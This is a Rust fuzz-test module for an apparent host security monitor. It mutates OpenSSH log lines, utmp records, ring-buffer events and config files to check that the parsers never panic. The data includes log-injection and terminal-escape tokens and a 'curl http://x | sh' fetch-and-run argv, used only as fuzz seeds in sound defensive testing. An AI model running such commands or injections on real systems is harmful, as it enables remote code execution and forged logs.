//! Mutation fuzzing of everything that reads outside input: auth.log lines, utmp/wtmp/lastlog
//! records, ring-buffer records and socket addresses, the rules and config files, and the
//! rendering of attacker-chosen argv into a line. Seeds are real inputs (loghub's 2,000 OpenSSH lines, well-formed records);
//! each round mutates them (bit flips, inserted bytes and hostile tokens, cut, repeated and
//! spliced ranges). Nothing may panic, and a rendered line must stay one parseable line that
//! gives the exact bytes back.
//!
//! `cargo test` runs a quick pass (a fixed seed); `cargo xtask fuzz` runs long ones with fresh
//! seeds (`MONITOR_FUZZ_ITERATIONS`, `MONITOR_FUZZ_SEED`), and prints the seed of a failure.
use std::sync::Arc;

use monitor_common::header::{EventHeader, EventKind};

use crate::{
    events,
    pipeline::record::{Proc, Record, What},
    render::{text, Renderer},
    sources::{authlog, utmp},
    state::proctable::Image,
};

/// xorshift64*: small, seedable, good enough to drive mutations.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.next() % n as u64) as usize
        }
    }
}

/// Byte strings an attacker would try.
const TOKENS: &[&[u8]] = &[
    b"\n",
    b"\r",
    b"\0",
    b"\x1b[2J",
    b"\x1b]52;c;aGk=\x07",
    b"\xe2\x80\xae",
    b"\xff\xfe",
    b"\"",
    b"\\",
    b"'",
    b"%s%n",
    b" port ",
    b" from ",
    b" for ",
    b"invalid user ",
    b"ssh2",
    b": ",
    b"sshd[",
    b"]: ",
    b"Accepted publickey",
    b"Failed password",
    b"\xc3",
    b"\xf0\x9f\x92",
];

fn mutate(rng: &mut Rng, seed: &[u8], other: &[u8]) -> Vec<u8> {
    let mut b = seed.to_vec();
    for _ in 0..=rng.below(4) {
        match rng.below(7) {
            0 if !b.is_empty() => {
                let i = rng.below(b.len());
                b[i] ^= 1 << rng.below(8);
            }
            1 => {
                let i = rng.below(b.len() + 1);
                let byte = rng.next() as u8;
                b.insert(i, byte);
            }
            2 => {
                let i = rng.below(b.len() + 1);
                let t = TOKENS[rng.below(TOKENS.len())];
                b.splice(i..i, t.iter().copied());
            }
            3 if !b.is_empty() => {
                let i = rng.below(b.len());
                let j = i + rng.below(b.len() - i + 1);
                b.drain(i..j);
            }
            4 if !b.is_empty() => {
                let i = rng.below(b.len());
                let j = (i + rng.below(64)).min(b.len());
                let piece = b[i..j].repeat(1 + rng.below(8));
                b.splice(i..i, piece);
            }
            5 if !other.is_empty() => {
                let i = rng.below(b.len() + 1);
                let j = rng.below(other.len());
                b.truncate(i);
                b.extend_from_slice(&other[j..]);
            }
            _ => b.truncate(rng.below(b.len() + 1)),
        }
    }
    b
}

/// Iterations and seed: quick and fixed under `cargo test`, else from the environment.
fn budget(default: usize) -> (usize, u64) {
    let n = std::env::var("MONITOR_FUZZ_ITERATIONS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default);
    let seed = std::env::var("MONITOR_FUZZ_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(0x5eed_f00d_u64);
    (n, seed | 1)
}

fn loghub() -> Vec<Vec<u8>> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../tests/fixtures/loghub/OpenSSH_2k.log"
    );
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| l.as_bytes().to_vec())
        .collect()
}

/// Runs `check` on mutated seeds; a panic names the seed and input that caused it.
fn fuzz(name: &str, seeds: &[Vec<u8>], default: usize, check: impl Fn(&[u8])) {
    assert!(!seeds.is_empty(), "{name}: no seeds");
    let (n, seed) = budget(default);
    let mut rng = Rng(seed);
    for i in 0..n {
        let a = &seeds[rng.below(seeds.len())];
        let b = &seeds[rng.below(seeds.len())];
        let input = mutate(&mut rng, a, b);
        let ok = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| check(&input)));
        if ok.is_err() {
            panic!(
                "{name}: iteration {i} (MONITOR_FUZZ_SEED={seed}) failed on {:?}",
                String::from_utf8_lossy(&input)
            );
        }
    }
}

#[test]
fn auth_log_lines() {
    fuzz("auth.log", &loghub(), 30_000, |input| {
        let line = String::from_utf8_lossy(input);
        let _ = authlog::parse_line(&line);
    });
}

#[test]
fn utmp_and_lastlog_records() {
    let login = utmp::Utmp {
        kind: utmp::Kind::UserProcess,
        pid: 4242,
        line: "pts/3".into(),
        id: "ts/3".into(),
        user: "alice".into(),
        host: "203.0.113.7".into(),
        exit_termination: 0,
        exit_status: 0,
        session: 0,
        time_sec: 1_764_079_542,
        time_usec: 0,
        addr: Some("203.0.113.7".parse().unwrap()),
    };
    let mut two = utmp::encode_utmp(&login).to_vec();
    two.extend_from_slice(&utmp::encode_utmp(&utmp::Utmp {
        kind: utmp::Kind::DeadProcess,
        ..login.clone()
    }));
    let seeds = vec![two];
    fuzz("utmp", &seeds, 20_000, |input| {
        let parsed = utmp::parse_all(input, 1_764_079_542);
        assert!(parsed.records.len() * utmp::UTMP_SIZE <= input.len());
        let _ = parsed.problems();
        let _ = utmp::parse_lastlog(input);
    });
}

#[test]
fn ring_buffer_records() {
    let mut seeds = Vec::new();
    for kind in EventKind::ALL {
        let mut b = vec![0u8; 600];
        let header = EventHeader {
            kind: kind as u32,
            pid: 7,
            tid: 7,
            _pad: 0,
            ts_ns: 1,
        };
        // SAFETY: EventHeader is plain old data; the buffer is larger than it.
        let raw = unsafe {
            std::slice::from_raw_parts(
                (&header as *const EventHeader).cast::<u8>(),
                std::mem::size_of::<EventHeader>(),
            )
        };
        b[..raw.len()].copy_from_slice(raw);
        b.extend_from_slice(b"/usr/bin/true\0arg\0--flag\0");
        seeds.push(b);
    }
    fuzz("ring records", &seeds, 30_000, |input| {
        let _ = events::decode(input);
        let _ = events::net::parse_sockaddr(input);
        let _ = events::process::split_args(input);
    });
}

/// A rules file: parsed, merged onto the built-in rules, or refused with an error — never a
/// panic (seeded with the built-in rules and the reference's examples).
#[test]
fn rules_files() {
    let mut seeds = vec![crate::detect::rules::Rules::built_in_text()
        .as_bytes()
        .to_vec()];
    let reference = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/rules.md");
    let doc = std::fs::read_to_string(reference).unwrap_or_default();
    // the TOML examples of docs/rules.md
    for block in doc.split("```toml").skip(1) {
        if let Some(code) = block.split("```").next() {
            seeds.push(code.as_bytes().to_vec());
        }
    }
    fuzz("rules file", &seeds, 3_000, |input| {
        let _ = crate::detect::rules::Rules::with_text(&String::from_utf8_lossy(input));
    });
}

/// The config file: settings or one error naming the key — never a panic.
#[test]
fn config_files() {
    let seeds = vec![
        crate::config::default_file()
            .lines()
            .filter_map(|l| l.strip_prefix('#'))
            .filter(|l| !l.starts_with(' '))
            .map(|l| format!("{l}\n"))
            .collect::<String>()
            .into_bytes(),
        b"output = \"/var/log/monitor/events.ndjson\"\nauth_log = [\"/a\", \"/b\"]\nforks = true\n"
            .to_vec(),
    ];
    fuzz("config file", &seeds, 1_000, |input| {
        let text = String::from_utf8_lossy(input);
        let _ =
            crate::config::settings_as_args(std::path::Path::new("fuzz.toml"), &text, |_| false);
    });
}

/// Any argv and path: one line, valid JSON, and the exact bytes back (from `args_hex` when
/// some argument is not UTF-8).
#[test]
fn rendered_argv_stays_one_line_and_round_trips() {
    let renderer = Renderer::new("vm".into());
    let mut seeds = loghub();
    seeds.push(b"/bin/sh\0-c\0curl http://x | sh\0".to_vec());
    fuzz("render", &seeds, 10_000, |input| {
        let mut parts: Vec<Vec<u8>> = input.split(|&b| b == b' ').map(<[u8]>::to_vec).collect();
        let executable = parts.remove(0);
        let image = Arc::new(Image {
            executable: executable.clone(),
            args: parts.clone(),
            ..Default::default()
        });
        let rec = Record {
            time: 1_764_079_542_000_000_000,
            process: Proc {
                pid: 7,
                image: Some(image),
                ..Default::default()
            },
            session: None,
            what: What::Exec(Box::default()),
        };
        let Some(line) = renderer.line(&rec) else {
            panic!("an exec has a line");
        };
        let text = serde_json::to_string(&line).unwrap();
        assert!(!text.contains('\n') && !text.contains('\r'), "one line");
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        let args = v["process"]["args"].as_array().unwrap();
        assert_eq!(args.len(), parts.len());
        match v["monitor"]["process"]["args_hex"].as_array() {
            Some(hex) => {
                for (h, want) in hex.iter().zip(&parts) {
                    assert_eq!(&text::unhex(h.as_str().unwrap()).unwrap(), want);
                }
            }
            None => {
                for (a, want) in args.iter().zip(&parts) {
                    assert_eq!(a.as_str().unwrap().as_bytes(), &want[..]);
                }
            }
        }
        if !executable.is_empty() {
            match v["monitor"]["process"]["executable_hex"].as_str() {
                Some(h) => assert_eq!(text::unhex(h).unwrap(), executable),
                None => assert_eq!(
                    v["process"]["executable"].as_str().unwrap().as_bytes(),
                    &executable[..]
                ),
            }
        }
    });
}
